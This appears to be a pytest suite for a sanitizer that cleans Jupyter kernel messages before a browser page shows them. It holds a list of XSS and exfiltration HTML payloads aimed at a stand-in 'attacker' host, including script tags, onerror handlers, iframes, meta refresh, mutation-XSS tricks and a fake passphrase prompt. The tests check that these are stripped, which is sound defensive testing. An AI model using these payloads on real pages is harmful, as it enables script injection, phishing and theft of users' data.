"""What a hostile kernel may tell a page: each message is written anew, and nothing in it can fetch, send or run."""

import base64
import json
import re

import nbformat
import pandas as pd
import pytest

from workbench.lab.contents import notebook_shown
from workbench.lab.outgoing import CELL, KINDS, LONG, MESSAGE, NOT_SHOWN, UNREAD, Letter, header, heard
from workbench.lab.outputs import SHOWING

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\nand so on").decode()
JPEG = base64.b64encode(b"\xff\xd8\xffand so on").decode()


def parts(kind: str, content, *, parent=None, head=None) -> list[bytes]:
    given = [{"msg_type": kind, "msg_id": "1", **(head or {})}, parent or {"msg_id": "asked"}, {}, content]
    return [part if isinstance(part, bytes) else json.dumps(part).encode() for part in given]


def passed(kind: str, content, letter: Letter | None = None) -> dict:
    """The content that a page gets."""
    said = heard(parts(kind, content))
    return json.loads(said.written(letter or Letter())[3])


def shown(data, **more) -> dict:
    """The representations that a page gets of an output."""
    return passed("display_data", {"data": data, "metadata": {}, **more})["data"]


def test_text_and_pictures_reach_the_page():
    data = {
        "text/plain": "a plot",
        "image/png": PNG,
        "image/jpeg": JPEG,
        "application/json": {"a": [1, None]},
    }

    assert shown(data) == data


def test_a_table_of_pandas_keeps_its_cells():
    frame = pd.DataFrame({"学年": ["小1", "小2"], "<b>": ["<script>x</script>", "a & b"]})
    html = shown({"text/plain": "x", "text/html": frame._repr_html_()})["text/html"]

    assert '<table border="1" class="dataframe">' in html
    assert "<td>小1</td>" in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html
    assert "style" not in html


# What made a stock notebook's page fetch, send or run something, and some more.
WAYS_OUT = {
    "image": '<img src="http://attacker/x.png">',
    "image of an attribute": '<table background="http://attacker/x"><tr><td>1</td></tr></table>',
    "style sheet": '<link rel="stylesheet" href="http://attacker/x.css">',
    "url in a style": '<p style="background:url(http://attacker/x)">x</p>',
    "style element": "<style>@import 'http://attacker/x.css';</style><p>x</p>",
    "script": "<script>fetch('http://attacker/')</script>",
    "handler": '<p onclick="fetch(1)" onpointerover="fetch(1)">x</p>',
    "frame": '<iframe src="http://attacker/"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>x</script>"></iframe>',
    "form": '<form action="http://attacker/"><input name=x><button>ok</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://attacker/">',
    "base": '<base href="http://attacker/">',
    "link": '<a href="http://attacker/?secret">more</a>',
    "link of a script": '<a href="javascript:fetch(1)">more</a>',
    "svg": '<svg><image href="http://attacker/x"/><script>x</script></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="fetch(1)">',
    "object": '<object data="http://attacker/"></object><embed src="http://attacker/">',
    "comment that opens": "<!--><img src=http://attacker/x>-->",
    "template": "<template><img src=http://attacker/x></template>",
    "broken": '<p/onmouseover="fetch(1)"//"<img src=x onerror=fetch(1)>',
    "capitals": "<ScRiPt>fetch(1)</sCrIpT>",
    "a class of the page's own": '<div class="jp-Dialog" id="main">give your passphrase</div>',
    "no script": '<noscript><p title="</noscript><img src=x onerror=fetch(1)>">',
    "nested": "<scr<script>ipt>fetch(1)</script>",
}


@pytest.mark.parametrize("html", WAYS_OUT.values(), ids=WAYS_OUT)
@pytest.mark.parametrize("kind", ["display_data", "execute_result", "update_display_data", "inspect_reply"])
def test_attack_html_that_fetches_sends_or_runs(html, kind):
    data = {"text/plain": "plain", "text/html": html}
    page = passed(kind, {"data": data, "metadata": {}, "found": True})["data"].get("text/html", "")

    assert set(re.findall(r"<\s*/?([a-zA-Z]+)", page)) <= {"p", "table", "tbody", "tr", "td", "div"}
    assert not re.search(r"(src|href|style|on\w+|class|id|background|action|title)\s*=", page)


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "image/svg+xml",
        "text/vnd.mermaid",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/vnd.vegalite.v5+json",
        "application/geo+json",
        "application/pdf",
        "application/x-python",
        "TEXT/HTML",
        "text/html ",
        "text/html;charset=utf-8",
        "",
    ],
)
def test_attack_a_mime_type_that_is_not_on_the_list(mime):
    letter = Letter()
    page = passed("display_data", {"data": {mime: "x"}}, letter)["data"]

    assert page == {"text/plain": NOT_SHOWN}
    assert [one["why"] for one in letter.withheld] == ["kind"]


def test_an_object_that_only_names_itself_is_said_not_to_be_shown():
    nameless = "<IPython.core.display.HTML object>"

    assert shown({"text/html": "<script>x</script>", "text/plain": nameless}) == {"text/plain": NOT_SHOWN}
    assert shown({"text/plain": nameless}) == {"text/plain": nameless}
    assert shown({"text/html": "<b>x</b>", "text/plain": nameless})["text/plain"] == nameless


@pytest.mark.parametrize("mime", ["text/markdown", "text/latex"])
def test_attack_a_source_that_a_page_would_turn_into_links_and_pictures(mime):
    source = "![x](http://attacker/x.png) <img src=http://attacker/>"

    assert shown({mime: source, "text/plain": "<IPython object>"}) == {"text/plain": source}


@pytest.mark.parametrize("content", ["<svg/>", "x", "", None, 7, ["a"], base64.b64encode(b"<svg/>").decode()])
@pytest.mark.parametrize("mime", ["image/png", "image/jpeg"])
def test_attack_a_picture_that_is_something_else(mime, content):
    assert shown({mime: content, "text/plain": "x"}) == {"text/plain": "x"}


def test_attack_metadata_that_would_open_a_frame():
    content = {
        "data": {"text/plain": "x", "image/png": PNG},
        "metadata": {"isolated": True, "image/png": {"width": 10, "isolated": True, "height": "1e9"}},
        "transient": {"display_id": "d", "more": 1},
    }
    page = passed("display_data", content)

    assert page["metadata"] == {"image/png": {"width": 10}}
    assert page["transient"] == {"display_id": "d"}


@pytest.mark.parametrize(
    "kind",
    [
        "comm_open",
        "comm_msg",
        "comm_close",
        "debug_event",
        "debug_reply",
        "iopub_welcome",
        "execute_request",
        "x",
        "",
    ],
)
def test_attack_a_kind_of_message_that_no_page_gets(kind):
    assert heard(parts(kind, {"data": {}, "comm_id": "x"})) is None


def test_attack_code_put_into_the_next_cell():
    payload = [
        {"source": "set_next_input", "text": "import os", "replace": True},
        {"source": "page", "data": {"text/plain": "help", "text/html": "<img src=http://attacker/>"}},
        "x",
    ]
    page = passed(
        "execute_reply", {"status": "ok", "payload": payload, "user_expressions": {"x": {"data": {}}}}
    )

    assert page["payload"] == [{"source": "page", "start": 0, "data": {"text/plain": "help"}}]
    assert page["user_expressions"] == {}


def test_attack_links_in_the_menu_and_a_language_of_the_kernels_own():
    page = passed(
        "kernel_info_reply", {"help_links": [{"text": "Help", "url": "http://attacker/"}], "banner": "x"}
    )

    assert page["help_links"] == []
    assert "attacker" not in json.dumps(page)
    assert page["debugger"] is False


def test_attack_one_message_in_which_two_readers_see_two_things():
    """JSON may name a member twice, and readers differ on which counts: only what was read is written."""
    twice = b'{"data":{"text/html":"<script>x</script>","text/plain":"x"},"data":{"text/plain":"y"}}'
    said = heard(parts("display_data", twice))

    assert b"script" not in b"".join(said.written(Letter()))


def test_attack_values_in_the_fields_around_the_content():
    much = "x" * 5000
    head = {"msg_id": much, "session": {"a": much}, "more": much, "username": ["x"]}
    said = heard(parts("status", {"execution_state": much, "more": much}, head=head, parent={"msg_id": much}))
    written = said.written(Letter())

    assert sum(map(len, written)) < 1000
    assert json.loads(written[3]) == {"execution_state": "busy"}
    assert json.loads(written[2]) == {}


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b"null", b"[" * 100_000, b"\xff\xfe", b'{"a":' * 50_000],
)
def test_attack_a_message_that_is_malformed(content):
    assert heard(parts("stream", content)) is None


@pytest.mark.parametrize(
    "given", [[], [b"{}"], [b"{}"] * 3, [b"1", b"2", b"3", b"{}"], [b"x" * (LONG + 1)] * 4]
)
def test_attack_parts_that_are_no_message(given):
    assert heard(given) is None


# Whatever a kernel puts into the fields of a message, a page gets fields of the kinds that it knows.
HOSTILE = [
    None,
    True,
    7,
    -1.5,
    "text",
    "\ud800",
    [],
    {},
    ["x", 1],
    {"text/plain": ["x"]},
    {"a": {"b": "c"}},
    1 << 70,
]
FIELDS = sorted(
    {"execution_state", "name", "text", "data", "metadata", "transient", "execution_count", "traceback"}
    | {"ename", "evalue", "payload", "status", "matches", "cursor_start", "found", "indent", "prompt", "wait"}
)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("value", HOSTILE, ids=map(repr, HOSTILE))
def test_attack_fields_of_another_type_than_they_should_be(kind, value):
    said = heard(parts(kind, dict.fromkeys(FIELDS, value)))

    assert all(json.loads(part) is not None for part in said.written(Letter()))


def test_half_of_a_character_does_not_stop_the_output():
    assert passed("stream", {"name": "stdout", "text": "a\ud800b"})["text"] == "ab"


def test_attack_html_that_a_kernel_wrote_into_the_file_of_a_notebook():
    outputs = [
        nbformat.v4.new_output(
            "display_data", {"text/plain": "x", "text/html": "<img src=http://attacker/>"}
        ),
        nbformat.v4.new_output("execute_result", {"application/javascript": "fetch(1)"}, execution_count=1),
        nbformat.v4.new_output("stream", text="hello"),
        nbformat.v4.new_output("error", ename="E", evalue="v", traceback=["a", "b"]),
    ]
    cell = nbformat.v4.new_code_cell("1", outputs=outputs, metadata={"trusted": True})
    raw = nbformat.writes(nbformat.v4.new_notebook(cells=[cell])).encode()
    notebook = notebook_shown(raw, "n.ipynb")["content"]

    nbformat.validate(notebook)
    assert [one.output_type for one in notebook.cells[0].outputs] == [one.output_type for one in outputs]
    assert "attacker" not in json.dumps(notebook)
    assert "fetch" not in json.dumps(notebook)
    assert notebook.cells[0].outputs[2].text == "hello"
    # What is saved from the page again is the same.
    again = notebook_shown(nbformat.writes(notebook).encode(), "n.ipynb")["content"]
    assert again == notebook


class TestSizes:
    def test_a_long_text_is_cut_and_what_is_missing_is_told_of(self):
        letter = Letter()
        page = passed("stream", {"text": "あ" * MESSAGE}, letter)

        assert len(page["text"].encode()) in range(MESSAGE - 3, MESSAGE + 1)
        assert [one["why"] for one in letter.withheld] == ["size"]
        assert sum(one["size"] for one in letter.passed + letter.withheld) == 3 * MESSAGE

    @pytest.mark.parametrize("kind", sorted(SHOWING | {"inspect_reply", "complete_reply", "input_request"}))
    def test_attack_a_message_of_many_megabytes(self, kind):
        much = "x" * (3 * MESSAGE)
        content = {
            "text": much,
            "data": {"text/plain": much, "application/json": [much], "text/html": f"<p>{much}</p>"},
            "traceback": [much],
            "evalue": much,
            "ename": much,
            "matches": [much] * 3,
            "prompt": much,
            "found": True,
        }
        written = heard(parts(kind, content)).written(Letter())

        assert sum(map(len, written)) < MESSAGE + 2000

    def test_attack_a_message_too_large_to_be_looked_at(self):
        letter = Letter()
        written = heard(parts("display_data", b"x" * (UNREAD + 1))).written(letter)

        assert json.loads(written[3])["data"] == {"text/plain": NOT_SHOWN}
        assert letter.withheld[0]["size"] == UNREAD + 1

    def test_a_cell_that_has_shown_its_share_shows_no_more(self):
        assert CELL > MESSAGE
        letter = Letter(room=0)

        assert heard(parts("stream", {"text": "x"})).written(letter) is None
        assert letter.withheld
        # What ends the cell still reaches the page.
        assert heard(parts("status", {"execution_state": "idle"})).written(Letter(room=0)) is not None

    def test_what_a_page_gets_above_the_days_limit_is_words_of_the_protocol(self):
        for kind in KINDS:
            said = heard(parts(kind, dict.fromkeys(FIELDS, "secret") | {"status": "ok"}))
            assert "secret" not in json.dumps(said.bare())


def test_the_fields_of_a_header_are_the_protocols():
    assert set(header({"msg_id": "1", "more": 2})) == {
        "msg_id",
        "msg_type",
        "username",
        "session",
        "date",
        "version",
    }
